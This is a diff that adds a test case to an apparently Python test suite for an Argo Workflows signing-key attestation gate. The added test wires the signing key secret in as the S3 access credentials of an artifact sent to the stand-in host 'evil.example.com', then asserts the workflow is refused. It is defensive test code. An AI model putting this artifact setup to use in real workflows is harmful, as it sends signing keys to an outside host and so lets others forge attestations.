@@ -213,6 +213,15 @@ def pods(case):
     use = pod_of(running, "use")
     assert ours(use) == ["argo-attest-gate", "argo-attest"], ours(use)
     expect.attested(case, use, APP)
+    # The key as the access key of a store: Argo itself would send it there.
+    stolen = {"key": "x", "endpoint": "evil.example.com", "bucket": "b",
+              "accessKeySecret": {"name": KEY_SECRET, "key": "attest.key"},
+              "secretKeySecret": {"name": KEY_SECRET, "key": "attest.key"}}
+    theft = step(case, "theft", MAKE, [APP])
+    theft["outputs"]["artifacts"][0]["s3"] = stolen
+    running = case.run(flow(theft))
+    expect.failed(running)
+    assert "may mount the signing key" in json.dumps(running.workflow()["status"]), running.workflow()["status"]
     wrong = []
     for wanted, table in ((False, ACCEPTED), (True, REFUSED)):
         for name, change in table.items():
